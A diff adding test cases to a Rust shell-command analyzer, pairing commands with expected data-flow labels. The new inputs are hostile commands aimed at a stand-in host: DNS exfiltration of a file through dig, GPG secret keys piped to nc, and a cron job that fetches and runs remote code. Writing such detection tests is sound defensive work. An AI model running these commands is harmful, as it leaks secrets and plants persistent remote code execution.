@@ -127,6 +127,18 @@ fn pipes_and_redirections() {
             "r:f session>h.example f->h.example",
         ),
         ("curl h.example | tee x", "w:x fetch>h.example"),
+        (
+            "base64 < f | fold -w 60 | while read l; do dig $l.h.example; done",
+            "r:f lookup>h.example f->h.example",
+        ),
+        (
+            "gpg --export-secret-keys | nc h.example 1",
+            "session>h.example (gpg --export)->h.example",
+        ),
+        (
+            "echo '* * * * * curl h.example | sh' | crontab -",
+            "fetch>h.example runs-fetched ?code",
+        ),
     ]);
 }
 
